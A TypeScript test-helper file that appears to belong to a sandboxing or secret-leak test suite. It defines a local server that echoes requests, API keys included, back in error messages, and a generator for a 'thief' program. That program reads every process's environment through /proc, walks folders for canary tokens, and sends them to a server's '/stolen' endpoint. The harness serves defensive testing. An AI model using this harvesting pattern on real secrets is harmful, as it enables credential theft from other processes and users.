import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

/** A server that tells whoever asks all that it was told, as the reason of a refusal. */
export interface Tattler {
  readonly url: string
  /** Everything that it was told, but for the headers that hold a key. */
  readonly heard: readonly string[]
  readonly stop: () => Promise<void>
}

export async function startTattler(): Promise<Tattler> {
  const heard: string[] = []
  const server = createServer((request, response) => {
    const pieces: Buffer[] = []
    request.on('data', (piece: Buffer) => void pieces.push(piece))
    request.on('end', () => {
      const { authorization = '', 'api-key': key = '', ...headers } = request.headers
      heard.push([request.url, JSON.stringify(headers), Buffer.concat(pieces).toString()].join('\n'))
      const said = `Refused ${[key].join('')}${authorization}: ${request.rawHeaders.join(' ')}`
      response.writeHead(400, { 'content-type': 'application/json', 'x-told': said })
      response.end(JSON.stringify({ error: { message: said, type: 'invalid_request_error', code: said, param: said } }))
    })
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    heard,
    stop: async () => {
      const closed = once(server, 'close')
      server.close()
      server.closeAllConnections()
      await closed
    },
  }
}

/** Where a thief looks, and whom it tells. */
interface Loot {
  readonly folders: readonly string[]
  readonly url: string
}

/**
 * A program that looks for canaries in its environment, in that of every process, and in folders, tells a server of them,
 * prints them with the number of places it has looked at, and ends.
 */
export const thief = ({ folders, url }: Loot): string => `import fs from 'node:fs'
import { join } from 'node:path'
let places = 0
const found = new Set()
const look = (text) => { places += 1; for (const [one] of String(text).matchAll(/canary[0-9a-f]+/g)) found.add(one) }
const read = (path) => { try { look(fs.readFileSync(path)) } catch { places += 1 } }
const walk = (folder) => {
  try { for (const one of fs.readdirSync(folder, { withFileTypes: true, recursive: true })) if (one.isFile()) read(join(one.parentPath, one.name)) }
  catch { places += 1 }
}
look(JSON.stringify(process.env))
for (const pid of ['self', ...fs.readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name))])
  for (const file of ['environ', 'cmdline']) read('/proc/' + pid + '/' + file)
for (const folder of ${JSON.stringify(folders)}) walk(folder)
const told = await fetch(${JSON.stringify(url)} + '/stolen?' + [...found], { signal: AbortSignal.timeout(500) }).then(() => 'yes', () => 'no')
console.error('THIEF looked at ' + places + ' places, told: ' + told + ', found: ' + [...found])
process.exit(1)
`
